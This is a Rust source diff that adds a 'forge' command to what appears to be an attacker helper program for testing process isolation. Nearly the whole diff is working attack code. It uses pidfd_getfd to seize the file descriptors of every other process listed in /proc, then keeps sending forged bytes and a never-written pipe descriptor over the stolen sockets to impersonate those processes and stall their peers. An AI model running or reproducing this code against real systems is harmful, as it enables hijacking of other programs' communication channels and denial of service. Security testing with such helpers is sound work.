@@ -54,6 +54,7 @@ pub fn play(args: &[&str]) -> i32 {
             0
         }
         ["stalk", secret] => stalk(secret),
+        ["forge"] => forge(),
         _ => panic!("neither the puppet nor the attacker knows {args:?}"),
     }
 }
@@ -139,4 +140,57 @@ fn knows(pid: &str, secret: &str) -> Option<String> {
         }
     }
     None
+}
+
+/// Takes the sockets of every process that comes, and speaks over them in its name, for ever.
+fn forge() -> ! {
+    use std::os::fd::{FromRawFd, OwnedFd};
+    println!("forging");
+    let own = std::process::id().to_string();
+    let mut taken: Vec<OwnedFd> = Vec::new();
+    // Whoever reads from it waits for ever.
+    let blocking = std::io::pipe().unwrap();
+    loop {
+        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+            let pid = entry.file_name().to_string_lossy().into_owned();
+            let Some(number) = pid.parse::<i32>().ok().filter(|_| pid != own) else { continue };
+            // SAFETY: numbers only; what comes back is a new descriptor or none.
+            let found = unsafe {
+                let pidfd = libc::syscall(libc::SYS_pidfd_open, number, 0) as i32;
+                if pidfd < 0 {
+                    continue;
+                }
+                let pidfd = OwnedFd::from_raw_fd(pidfd);
+                let get = |fd: i32| libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), fd, 0) as i32;
+                (3..40).map(get).filter(|fd| *fd >= 0).map(|fd| OwnedFd::from_raw_fd(fd)).collect::<Vec<_>>()
+            };
+            taken.extend(found);
+        }
+        for socket in &taken {
+            for word in [b"M", b"T", b"x"] {
+                send_with(socket.as_raw_fd(), word, blocking.0.as_raw_fd());
+            }
+        }
+        let length = taken.len();
+        taken.drain(..length.saturating_sub(64));
+    }
+}
+
+/// Sends a byte and a descriptor, if that is a socket that takes them.
+fn send_with(socket: i32, word: &[u8; 1], fd: i32) {
+    // SAFETY: all buffers live on this stack during the call, and have the sizes that are said.
+    unsafe {
+        let mut control = [0u64; 4];
+        let mut part = libc::iovec { iov_base: word.as_ptr().cast_mut().cast(), iov_len: 1 };
+        let mut message: libc::msghdr = std::mem::zeroed();
+        (message.msg_iov, message.msg_iovlen) = (&raw mut part, 1);
+        message.msg_control = control.as_mut_ptr().cast();
+        message.msg_controllen = libc::CMSG_SPACE(4) as _;
+        let header = libc::CMSG_FIRSTHDR(&raw const message);
+        (*header).cmsg_level = libc::SOL_SOCKET;
+        (*header).cmsg_type = libc::SCM_RIGHTS;
+        (*header).cmsg_len = libc::CMSG_LEN(4) as _;
+        libc::CMSG_DATA(header).cast::<i32>().write_unaligned(fd);
+        libc::sendmsg(socket, &raw const message, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
+    }
 }
